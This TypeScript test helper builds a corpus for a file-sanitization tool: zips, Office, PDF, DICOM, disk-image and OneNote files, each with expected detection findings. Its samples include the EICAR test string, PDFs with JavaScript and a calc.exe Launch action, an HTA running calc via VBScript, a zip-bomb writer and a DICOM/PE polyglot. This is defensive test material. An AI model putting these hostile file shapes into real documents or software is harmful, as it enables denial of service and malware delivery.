/**
 * The sanitization test corpus, generated at test time (no binaries are committed, no live
 * malware exists anywhere in it): each file is built from its format's rules — zips by yazl
 * or by hand where a header must lie, OLE files by SheetJS cfb, PDFs as text plus zlib —
 * together with what the content analysis must say about it. The EICAR string is the
 * anti-virus industry's harmless test file; its parts are joined here so that this source
 * file itself is not flagged by a scanner on a developer's machine.
 */
import { createWriteStream } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { once } from 'node:events';
import zlib from 'node:zlib';
import * as CFB from 'cfb';
import yazl from 'yazl';
import type { ContentAnalysis, FindingCode } from '../../electron/core/sanitize/sanitize-types';

export interface CorpusEntry {
  readonly relativePath: string;
  readonly expected: {
    readonly type: string;
    readonly findings: FindingCode[];
    readonly transform?: ContentAnalysis['transform'];
    readonly innerTypes?: string[];
  };
}

export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-', 'TEST-FILE!$H+H*'].join('');

// ─── zip by library ────────────────────────────────────────────────────────────────────

export interface ZipItem {
  readonly name: string;
  readonly data: Buffer | string;
  readonly zip64?: boolean;
  readonly store?: boolean;
}

export async function zipOf(items: readonly ZipItem[]): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const item of items) {
    zip.addBuffer(Buffer.from(item.data), item.name, {
      compress: !item.store,
      forceZip64Format: item.zip64 ?? false,
      mtime: new Date(2024, 0, 1),
    });
  }
  // Zip64 for the archive too (end-of-central-directory record and locator), not only the entries.
  zip.end({ forceZip64Format: items.some((item) => item.zip64 === true), comment: '' });
  const parts: Buffer[] = [];
  for await (const chunk of zip.outputStream as AsyncIterable<Buffer>) parts.push(chunk);
  return Buffer.concat(parts);
}

// ─── zip by hand, for headers that lie ───────────────────────────────────────────────

export interface HandEntry {
  readonly name: string;
  /** The bytes stored after the local header (already deflated when method is 8). */
  readonly payload: Buffer;
  readonly method: 0 | 8;
  readonly crc: number;
  readonly declaredSize: number;
  readonly flags?: number;
  readonly externalAttributes?: number;
  readonly versionMadeBy?: number;
}

function localHeader(entry: HandEntry, name: Buffer): Buffer {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(entry.flags ?? 0x0800, 6);
  header.writeUInt16LE(entry.method, 8);
  header.writeUInt16LE(0, 10);
  header.writeUInt16LE(0x5821, 12);
  header.writeUInt32LE(entry.crc >>> 0, 14);
  header.writeUInt32LE(entry.payload.length, 18);
  header.writeUInt32LE(entry.declaredSize, 22);
  header.writeUInt16LE(name.length, 26);
  header.writeUInt16LE(0, 28);
  return Buffer.concat([header, name]);
}

function centralHeader(entry: HandEntry, name: Buffer, offset: number, compressedSize: number): Buffer {
  const header = Buffer.alloc(46);
  header.writeUInt32LE(0x02014b50, 0);
  header.writeUInt16LE(entry.versionMadeBy ?? (3 << 8) | 20, 4);
  header.writeUInt16LE(20, 6);
  header.writeUInt16LE(entry.flags ?? 0x0800, 8);
  header.writeUInt16LE(entry.method, 10);
  header.writeUInt16LE(0, 12);
  header.writeUInt16LE(0x5821, 14);
  header.writeUInt32LE(entry.crc >>> 0, 16);
  header.writeUInt32LE(compressedSize, 20);
  header.writeUInt32LE(entry.declaredSize, 24);
  header.writeUInt16LE(name.length, 28);
  header.writeUInt32LE((entry.externalAttributes ?? 0o100644 << 16) >>> 0, 38);
  header.writeUInt32LE(offset, 42);
  return Buffer.concat([header, name]);
}

function endOfCentralDirectory(count: number, size: number, offset: number): Buffer {
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(size, 12);
  end.writeUInt32LE(offset, 16);
  return end;
}

export function handZip(entries: readonly HandEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const local = Buffer.concat([localHeader(entry, name), entry.payload]);
    centrals.push(centralHeader(entry, name, offset, entry.payload.length));
    locals.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(centrals);
  return Buffer.concat([...locals, central, endOfCentralDirectory(entries.length, central.length, offset)]);
}

export function storedEntry(name: string, data: Buffer | string, extra: Partial<HandEntry> = {}): HandEntry {
  const payload = Buffer.from(data);
  return { name, payload, method: 0, crc: zlib.crc32(payload), declaredSize: payload.length, ...extra };
}

export function deflatedEntry(name: string, data: Buffer | string, extra: Partial<HandEntry> = {}): HandEntry {
  const raw = Buffer.from(data);
  return { name, payload: zlib.deflateRawSync(raw), method: 8, crc: zlib.crc32(raw), declaredSize: raw.length, ...extra };
}

/**
 * A zip whose single entry inflates to `gibibytes` GiB of zeros (declaring `declaredSize`),
 * written streaming: one raw-deflate piece for 1 MiB of zeros, ended by a full flush so it
 * can be repeated back to back, then the final empty block. A few MB on disk, nothing held.
 */
export async function writeZerosBomb(file: string, name: string, mebibytes: number, declaredSize?: number): Promise<void> {
  const zeros = Buffer.alloc(1024 * 1024);
  const piece = zlib.deflateRawSync(zeros, { finishFlush: zlib.constants.Z_FULL_FLUSH, level: 9 });
  const last = zlib.deflateRawSync(Buffer.alloc(0));
  let crc = 0;
  for (let i = 0; i < mebibytes; i++) crc = zlib.crc32(zeros, crc);
  const compressedSize = piece.length * mebibytes + last.length;
  const size = declaredSize ?? Math.min(mebibytes * 1024 * 1024, 0xffffffff);
  const entry: HandEntry = { name, payload: Buffer.alloc(0), method: 8, crc, declaredSize: size };
  const nameBytes = Buffer.from(name);
  const out = createWriteStream(file);
  const write = async (bytes: Buffer) => {
    if (!out.write(bytes)) await once(out, 'drain');
  };
  const local = localHeader(entry, nameBytes);
  local.writeUInt32LE(compressedSize, 18);
  await write(local);
  for (let i = 0; i < mebibytes; i++) await write(piece);
  await write(last);
  const central = centralHeader(entry, nameBytes, 0, compressedSize);
  await write(central);
  await write(endOfCentralDirectory(1, central.length, local.length + compressedSize));
  out.end();
  await once(out, 'finish');
}

// ─── Office ────────────────────────────────────────────────────────────────────────────

const MAIN = {
  docx: ['word/document.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'],
  docm: ['word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'],
  xlsx: ['xl/workbook.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'],
  xlsm: ['xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'],
  pptx: ['ppt/presentation.xml', 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml'],
} as const;

export async function ooxml(kind: keyof typeof MAIN, extraParts: readonly ZipItem[] = []): Promise<Buffer> {
  const [mainPart, mainType] = MAIN[kind];
  const overrides = [`<Override PartName="/${mainPart}" ContentType="${mainType}"/>`];
  if (extraParts.some((part) => part.name.endsWith('vbaProject.bin')))
    overrides.push(`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`);
  const contentTypes = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides.join('')}</Types>`;
  const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${mainPart}"/></Relationships>`;
  const main = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><root xmlns="urn:x"><t>Service report 2024</t></root>`;
  // An extra part named like the main part replaces it (a document body with fields, say).
  const body = extraParts.find((part) => part.name === mainPart);
  return zipOf([
    { name: '[Content_Types].xml', data: contentTypes },
    { name: '_rels/.rels', data: rels },
    body ?? { name: mainPart, data: main },
    ...extraParts.filter((part) => part !== body),
  ]);
}

/** A compound file with the given streams ("/Macros/VBA/_VBA_PROJECT" makes the storages on the way). */
export function compoundFile(streams: Readonly<Record<string, Buffer | string>>, rootClsid?: string): Buffer {
  const container = CFB.utils.cfb_new();
  for (const [name, data] of Object.entries(streams)) CFB.utils.cfb_add(container, name, Buffer.from(data));
  if (rootClsid) container.FileIndex[0]!.clsid = rootClsid;
  return Buffer.from(CFB.write(container, { type: 'buffer' }) as Uint8Array);
}

/** A BIFF8 workbook stream: BOF, one BoundSheet8 of the given sheet type (0 worksheet, 1 Excel 4.0 macro sheet), EOF. */
export function biffWorkbook(sheetType: number): Buffer {
  const name = Buffer.from('Sheet1', 'latin1');
  return biffGlobals([[0x0085, Buffer.concat([Buffer.from([0, 0, 0, 0, 0, sheetType, name.length, 0]), name])]]);
}

/** A BIFF8 workbook stream from globals records ([type, data]): BOF first, EOF last. */
export function biffGlobals(records: readonly [number, Buffer][]): Buffer {
  const record = (type: number, data: Buffer) => {
    const header = Buffer.alloc(4);
    header.writeUInt16LE(type, 0);
    header.writeUInt16LE(data.length, 2);
    return Buffer.concat([header, data]);
  };
  const bof = Buffer.alloc(16);
  bof.writeUInt16LE(0x0600, 0);
  bof.writeUInt16LE(0x0005, 2);
  return Buffer.concat([record(0x0809, bof), ...records.map(([type, data]) => record(type, data)), record(0x000a, Buffer.alloc(0))]);
}

/** A SupBook record's data ([MS-XLS] 2.4.271): ctab sheets, then the virtual path as an 8-bit XLUnicodeStringNoCch. */
export function supBook(ctab: number, virtualPath: string): Buffer {
  const path = Buffer.from(virtualPath, 'latin1');
  const head = Buffer.alloc(5);
  head.writeUInt16LE(ctab, 0);
  head.writeUInt16LE(path.length, 2);
  return Buffer.concat([head, path]);
}

/** A PowerPoint record: 2 bytes recVer | recInstance << 4, recType, recLen. */
export function pptRecord(version: number, instance: number, type: number, data: Buffer): Buffer {
  const header = Buffer.alloc(8);
  header.writeUInt16LE(version | (instance << 4), 0);
  header.writeUInt16LE(type, 2);
  header.writeUInt32LE(data.length, 4);
  return Buffer.concat([header, data]);
}

/** A legacy PowerPoint file whose "PowerPoint Document" stream holds the given records inside a DocumentContainer. */
export function powerPointOf(records: readonly Buffer[]): Buffer {
  return compoundFile({
    '/PowerPoint Document': Buffer.concat([Buffer.alloc(64), pptRecord(0xf, 0, 0x03e8, Buffer.concat(records))]),
    '/Current User': Buffer.alloc(32),
  });
}

/** An Outlook message with one attachment (data and long file name). */
export function outlookMessage(attachmentName: string, attachment: Buffer): Buffer {
  return compoundFile({
    '/__properties_version1.0': Buffer.alloc(32),
    '/__substg1.0_0037001F': Buffer.from('Log files', 'utf16le'),
    '/__attach_version1.0_#00000000/__substg1.0_37010102': attachment,
    '/__attach_version1.0_#00000000/__substg1.0_3707001F': Buffer.from(attachmentName, 'utf16le'),
  });
}

// ─── PDF ───────────────────────────────────────────────────────────────────────────────

/** A PDF from object bodies (object n is bodies[n-1]) with a correct cross-reference table. */
export function pdfOf(bodies: readonly (string | Buffer)[], rootRef = '1 0 R'): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]!.length;
  bodies.forEach((body, index) => {
    offsets.push(length);
    const object = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]);
    parts.push(object);
    length += object.length;
  });
  const xref = [
    `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`,
    ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`),
  ].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${bodies.length + 1} /Root ${rootRef} >>\nstartxref\n${length}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** A stream object body with a direct /Length. */
export function pdfStream(dictionary: string, data: Buffer | string): Buffer {
  const bytes = Buffer.from(data);
  return Buffer.concat([Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`), bytes, Buffer.from('\nendstream')]);
}

const PAGES = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
];

/** Bytes that look like compressed data and happen to contain "/JS " and "/AA " (as random data does, now and then). */
function opaqueBytesWithActiveLookingNames(): Buffer {
  const noise = Buffer.alloc(4096);
  for (let i = 0; i < noise.length; i++) noise[i] = (i * 131 + 17) % 251;
  return Buffer.concat([noise.subarray(0, 1000), Buffer.from('/JS /AA\n(', 'latin1'), noise.subarray(1000)]);
}

function objectStream(objects: readonly [number, string][]): Buffer {
  let header = '';
  let body = '';
  for (const [number, text] of objects) {
    header += `${number} ${body.length} `;
    body += `${text}\n`;
  }
  const data = zlib.deflateSync(Buffer.from(header + body));
  return pdfStream(`/Type /ObjStm /N ${objects.length} /First ${header.length} /Filter /FlateDecode`, data);
}

export const PDFS: Readonly<Record<string, { bytes: () => Buffer; findings: FindingCode[] }>> = {
  'clean.pdf': {
    bytes: () =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Im0 5 0 R >> >> >>',
        pdfStream(
          '/Filter /FlateDecode',
          zlib.deflateSync('BT /F1 12 Tf 72 720 Td (Service report) Tj ET q 100 0 0 100 72 500 cm /Im0 Do Q'),
        ),
        pdfStream(
          '/Type /XObject /Subtype /Image /Width 64 /Height 64 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode',
          opaqueBytesWithActiveLookingNames(),
        ),
      ]),
    findings: [],
  },
  'clean-indirect-length.pdf': {
    bytes: () => {
      const data = opaqueBytesWithActiveLookingNames();
      return pdfOf([
        ...PAGES,
        Buffer.concat([Buffer.from('<< /Type /XObject /Subtype /Image /Length 5 0 R >>\nstream\n'), data, Buffer.from('\nendstream')]),
        String(data.length),
      ]);
    },
    findings: [],
  },
  'javascript.pdf': {
    bytes: () =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>',
        PAGES[1]!,
        PAGES[2]!,
        '<< /Names [(init) 5 0 R] >>',
        '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
      ]),
    findings: ['PDF_JAVASCRIPT'],
  },
  'open-action.pdf': {
    bytes: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>', PAGES[1]!, PAGES[2]!]),
    findings: ['PDF_AUTO_ACTION'],
  },
  'additional-actions.pdf': {
    bytes: () =>
      pdfOf([PAGES[0]!, PAGES[1]!, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>']),
    findings: ['PDF_AUTO_ACTION'],
  },
  'launch.pdf': {
    bytes: () =>
      pdfOf([
        PAGES[0]!,
        PAGES[1]!,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (calc.exe) >> >>',
      ]),
    findings: ['PDF_LAUNCH'],
  },
  'embedded-file.pdf': {
    bytes: () =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>',
        PAGES[1]!,
        PAGES[2]!,
        '<< /Names [(log.txt) 5 0 R] >>',
        '<< /Type /Filespec /F (log.txt) /EF << /F 6 0 R >> >>',
        pdfStream('/Type /EmbeddedFile', 'hello'),
      ]),
    findings: ['PDF_EMBEDDED_FILE'],
  },
  'escaped-name.pdf': {
    bytes: () =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>',
        PAGES[1]!,
        PAGES[2]!,
        '<< /Names [(x) 5 0 R] >>',
        '<< /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >>',
      ]),
    findings: ['PDF_JAVASCRIPT'],
  },
  'object-stream.pdf': {
    bytes: () =>
      pdfOf(
        [
          objectStream([
            [2, '<< /Type /Catalog /Pages 3 0 R /OpenAction 5 0 R >>'],
            [5, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'],
          ]),
          '<< /Type /Placeholder >>',
          '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
          '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>',
        ],
        '2 0 R',
      ),
    findings: ['PDF_AUTO_ACTION', 'PDF_JAVASCRIPT'],
  },
  'xfa.pdf': {
    bytes: () =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true >>',
        PAGES[1]!,
        PAGES[2]!,
        pdfStream(
          '',
          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>',
        ),
      ]),
    findings: ['PDF_XFA'],
  },
  'broken-object-stream.pdf': {
    bytes: () =>
      pdfOf([...PAGES, pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('this is not deflate data at all'))]),
    findings: ['PDF_UNPARSEABLE_STREAM'],
  },
};

// ─── small binary formats ──────────────────────────────────────────────────────────────

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

export function png(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0);
  header.writeUInt32BE(1, 4);
  header[8] = 8;
  header[9] = 0;
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', zlib.deflateSync(Buffer.from([0, 0x80]))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export function jpeg(): Buffer {
  return Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300' + '08'.repeat(64) + 'ffd9', 'hex');
}

export function tiff(): Buffer {
  // Little-endian header, one IFD with ImageWidth = 1, no next IFD.
  return Buffer.from('49492a0008000000' + '0100' + '000103000100000001000000' + '00000000', 'hex');
}

/** A minimal PE: DOS header with e_lfanew = 0x40, "PE\0\0", an i386 COFF header. */
export function portableExecutable(): Buffer {
  const bytes = Buffer.alloc(0x200);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x40, 0x3c);
  bytes.write('PE\0\0', 0x40, 'latin1');
  bytes.writeUInt16LE(0x14c, 0x44);
  return bytes;
}

export function elf(): Buffer {
  const bytes = Buffer.alloc(64);
  Buffer.from('7f454c46020101', 'hex').copy(bytes);
  bytes.writeUInt16LE(2, 16); // ET_EXEC
  bytes.writeUInt16LE(0x3e, 18); // x86-64
  return bytes;
}

export function machO(fat = false): Buffer {
  const bytes = Buffer.alloc(64);
  if (fat) {
    bytes.writeUInt32BE(0xcafebabe, 0);
    bytes.writeUInt32BE(2, 4);
  } else bytes.writeUInt32LE(0xfeedfacf, 0);
  return bytes;
}

/** A Windows shortcut: the 76-byte Shell Link header (size 0x4C, the Shell Link CLSID), nothing after. */
export function shortcut(): Buffer {
  const bytes = Buffer.alloc(0x4c);
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex').copy(bytes);
  return bytes;
}

/** VRs whose explicit-VR header has two reserved bytes and a 32-bit length (PS3.5 7.1.2). */
const LONG_VRS = new Set(['OB', 'OD', 'OF', 'OL', 'OV', 'OW', 'SQ', 'UC', 'UN', 'UR', 'UT', 'SV', 'UV']);

/** One explicit-VR little-endian data element. */
export function dicomElement(group: number, elementNumber: number, vr: string, value: Buffer | string): Buffer {
  const bytes = Buffer.from(value);
  const long = LONG_VRS.has(vr);
  const header = Buffer.alloc(long ? 12 : 8);
  header.writeUInt16LE(group, 0);
  header.writeUInt16LE(elementNumber, 2);
  header.write(vr, 4, 'latin1');
  if (long) header.writeUInt32LE(bytes.length, 8);
  else header.writeUInt16LE(bytes.length, 6);
  return Buffer.concat([header, bytes]);
}

/** A DICOM Part 10 file from its data elements (ascending tags), after the preamble, "DICM" and the meta group's transfer syntax. */
export function dicomOf(elements: readonly Buffer[], preamble: Buffer = Buffer.alloc(128)): Buffer {
  const fixed = Buffer.alloc(128);
  preamble.copy(fixed, 0, 0, 128);
  return Buffer.concat([fixed, Buffer.from('DICM', 'latin1'), dicomElement(0x0002, 0x0010, 'UI', '1.2.840.10008.1.2.1\0'), ...elements]);
}

/** A DICOM Part 10 file: preamble, "DICM", a meta group with the transfer syntax, a patient name and pixel data. */
export function dicom(preamble: Buffer = Buffer.alloc(128), pixels = 64): Buffer {
  return dicomOf([dicomElement(0x0010, 0x0010, 'PN', 'Anon^Patient'), dicomElement(0x7fe0, 0x0010, 'OW', Buffer.alloc(pixels))], preamble);
}

/**
 * The first bytes of a DICOM file of `totalBytes`: everything up to the value of a pixel data
 * element that takes the rest, for callers that write large pixel data themselves.
 */
export function dicomHead(totalBytes: number): Buffer {
  const head = dicomOf([dicomElement(0x0010, 0x0010, 'PN', 'Anon^Patient'), dicomElement(0x7fe0, 0x0010, 'OW', Buffer.alloc(0))]);
  head.writeUInt32LE(totalBytes - head.length, head.length - 4);
  return head;
}

/** A DICOM Encapsulated PDF (PS3.3 A.45): the PDF is the value of Encapsulated Document (0042,0011). */
export function dicomEncapsulatedPdf(pdf: Buffer): Buffer {
  return dicomOf([
    dicomElement(0x0008, 0x0016, 'UI', '1.2.840.10008.5.1.4.1.1.104.1\0'),
    dicomElement(0x0010, 0x0010, 'PN', 'Anon^Patient'),
    dicomElement(0x0042, 0x0011, 'OB', pdf.length % 2 === 0 ? pdf : Buffer.concat([pdf, Buffer.alloc(1)])),
    dicomElement(0x0042, 0x0012, 'LO', 'application/pdf '),
  ]);
}

/** The CVE-2019-11687 shape: an MZ header in the preamble whose e_lfanew points at a PE header inside a data element. */
export function dicomPolyglot(): Buffer {
  const file = dicom(Buffer.alloc(128), 1024);
  file.write('MZ', 0, 'latin1');
  const peAt = 0x200;
  file.writeUInt32LE(peAt, 0x3c);
  file.write('PE\0\0', peAt, 'latin1');
  file.writeUInt16LE(0x14c, peAt + 4);
  return file;
}

// ─── containers (ISO/OneNote smuggling) ────────────────────────────────────────────────

/** A POSIX ustar archive (512-byte headers with octal fields and the header checksum, two zero blocks at the end). */
export function tarOf(items: readonly { name: string; data?: Buffer | string; type?: string; linkname?: string }[]): Buffer {
  const blocks: Buffer[] = [];
  for (const item of items) {
    const data = Buffer.from(item.data ?? '');
    const header = Buffer.alloc(512);
    header.write(item.name, 0, 100, 'utf8');
    header.write('0000644\0', 100, 'latin1');
    header.write('0000000\0', 108, 'latin1');
    header.write('0000000\0', 116, 'latin1');
    header.write(`${data.length.toString(8).padStart(11, '0')}\0`, 124, 'latin1');
    header.write(
      `${Math.floor(Date.UTC(2024, 0, 1) / 1000)
        .toString(8)
        .padStart(11, '0')}\0`,
      136,
      'latin1',
    );
    header.write(item.type ?? '0', 156, 'latin1');
    if (item.linkname) header.write(item.linkname, 157, 100, 'utf8');
    header.write('ustar\u000000', 257, 'latin1');
    header.fill(0x20, 148, 156);
    let sum = 0;
    for (const byte of header) sum += byte;
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
    blocks.push(header, data, Buffer.alloc((512 - (data.length % 512)) % 512));
  }
  return Buffer.concat([...blocks, Buffer.alloc(1024)]);
}

/**
 * An ISO 9660 image: 32 KiB of system area, a primary volume descriptor ("CD001" at 0x8001),
 * the set terminator, then the files' bytes (a real image would add a directory; nothing
 * here reads one — an ISO is blocked as a container that cannot be inspected).
 */
export function isoImage(files: readonly { name: string; data: Buffer | string }[]): Buffer {
  const descriptor = (type: number) => {
    const sector = Buffer.alloc(2048);
    sector[0] = type;
    sector.write('CD001', 1, 'latin1');
    sector[6] = 1;
    if (type === 1) sector.write('INVOICE'.padEnd(32, ' '), 40, 'latin1');
    return sector;
  };
  return Buffer.concat([
    Buffer.alloc(0x8000),
    descriptor(1),
    descriptor(255),
    ...files.flatMap((file) => [Buffer.from(file.name), Buffer.from(file.data)]),
  ]);
}

/** The 512-byte VHD footer ("conectix" cookie, fixed disk type 2). */
function vhdFooter(): Buffer {
  const footer = Buffer.alloc(512);
  footer.write('conectix', 0, 'latin1');
  footer.writeUInt32BE(2, 60);
  return footer;
}

/** A fixed VHD: raw sectors, then the footer. */
export function vhdFixed(sectors: Buffer): Buffer {
  return Buffer.concat([sectors, vhdFooter()]);
}

/** A dynamic VHD starts with a copy of its footer. */
export function vhdDynamic(): Buffer {
  return Buffer.concat([vhdFooter(), Buffer.alloc(1024), vhdFooter()]);
}

export function vhdx(): Buffer {
  return Buffer.concat([Buffer.from('vhdxfile', 'latin1'), Buffer.alloc(64 * 1024 - 8)]);
}

/** A raw disk image with an MBR: one FAT32 partition from sector 2048, boot signature 0x55AA. */
export function mbrDiskImage(): Buffer {
  const image = Buffer.alloc(4096);
  image[446] = 0x80;
  image[446 + 4] = 0x0c;
  image.writeUInt32LE(2048, 446 + 8);
  image.writeUInt32LE(65536, 446 + 12);
  image[510] = 0x55;
  image[511] = 0xaa;
  return image;
}

/** A GPT disk: protective MBR plus "EFI PART" in LBA 1. */
export function gptDiskImage(): Buffer {
  const image = mbrDiskImage();
  image[446] = 0;
  image[446 + 4] = 0xee;
  image.write('EFI PART', 512, 'latin1');
  return image;
}

/** A OneNote section: the revision-store file format GUID first, an embedded file's bytes later (as in the 2023 campaigns). */
export function oneNote(embedded: Buffer | string): Buffer {
  const header = Buffer.alloc(1024);
  Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex').copy(header, 0);
  const fileDataStore = Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'); // FileDataStoreObject GUID
  return Buffer.concat([header, fileDataStore, Buffer.from(embedded)]);
}

export function cabinet(): Buffer {
  const header = Buffer.alloc(64);
  header.write('MSCF', 0, 'latin1');
  header.writeUInt32LE(64, 8);
  header[24] = 3;
  header[25] = 1;
  return Buffer.concat([header, Buffer.from('setup.js')]);
}

export function sevenZip(): Buffer {
  return Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(24)]);
}

export function rar(version: 4 | 5): Buffer {
  return Buffer.concat([Buffer.from(version === 5 ? '526172211a070100' : '526172211a0700', 'hex'), Buffer.alloc(32)]);
}

/** Bytes no format claims (a multiplicative pattern, no magic number, not text). */
export function randomBinary(length = 4096): Buffer {
  const bytes = Buffer.alloc(length);
  for (let i = 0; i < length; i++) bytes[i] = (i * 97 + 13) % 256;
  return bytes;
}

// ─── active content that used to pass ───────────────────────────────────────────────────

const RELATIONSHIPS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE_RELATIONSHIP = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A .rels part with the given relationships. */
export function relsPart(relationships: readonly { id: string; type: string; target: string; external?: boolean }[]): string {
  const items = relationships.map(
    (r) =>
      `<Relationship Id="${r.id}" Type="${OFFICE_RELATIONSHIP}/${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`,
  );
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${RELATIONSHIPS_NS}">${items.join('')}</Relationships>`;
}

/** An OLE Package object ("\x01Ole10Native": size, label, path, data) holding a file, as Office writes it for any dropped file. */
export function olePackage(fileName: string, data: Buffer | string): Buffer {
  const payload = Buffer.from(data);
  const label = Buffer.from(`${fileName}\0`, 'latin1');
  const path = Buffer.from(`C:\\Users\\x\\${fileName}\0`, 'latin1');
  const size = Buffer.alloc(4);
  size.writeUInt32LE(payload.length);
  const body = Buffer.concat([
    Buffer.from([2, 0]),
    label,
    path,
    Buffer.from([0, 0, 3, 0]),
    Buffer.alloc(4, path.length),
    path,
    size,
    payload,
  ]);
  const total = Buffer.alloc(4);
  total.writeUInt32LE(body.length);
  return compoundFile({ '/\u0001Ole10Native': Buffer.concat([total, body]) });
}

const HTA =
  '<html><head><HTA:APPLICATION ID="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>';

/** A legacy PowerPoint file whose VBAInfoAtom says fHasMacros ([MS-PPT] 2.4.16: the project itself is compressed elsewhere in the stream). */
export function powerPointWithMacros(hasMacros: boolean): Buffer {
  const atom = Buffer.alloc(12);
  atom.writeUInt32LE(1, 0); // persistIdRef
  atom.writeUInt32LE(hasMacros ? 1 : 0, 4);
  atom.writeUInt32LE(2, 8);
  return powerPointOf([pptRecord(0xf, 0, 0x03ff, pptRecord(2, 0, 0x0400, atom))]);
}

/** A legacy PowerPoint file with an embedded OLE object: an ExOleObjStg record holding a zlib-compressed compound file. */
export function powerPointWithObject(object: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32LE(object.length);
  return powerPointOf([
    pptRecord(0xf, 0, 0x0409, Buffer.alloc(0)),
    pptRecord(0, 1, 0x1011, Buffer.concat([size, zlib.deflateSync(object)])),
  ]);
}

/** A legacy PowerPoint file with a shape whose click runs a program (InteractiveInfoAtom, action II_RunProgramAction). */
export function powerPointRunProgram(): Buffer {
  const atom = Buffer.alloc(16);
  atom[8] = 3;
  return powerPointOf([pptRecord(0xf, 0, 0x0ff2, pptRecord(0, 0, 0x0ff3, atom))]);
}

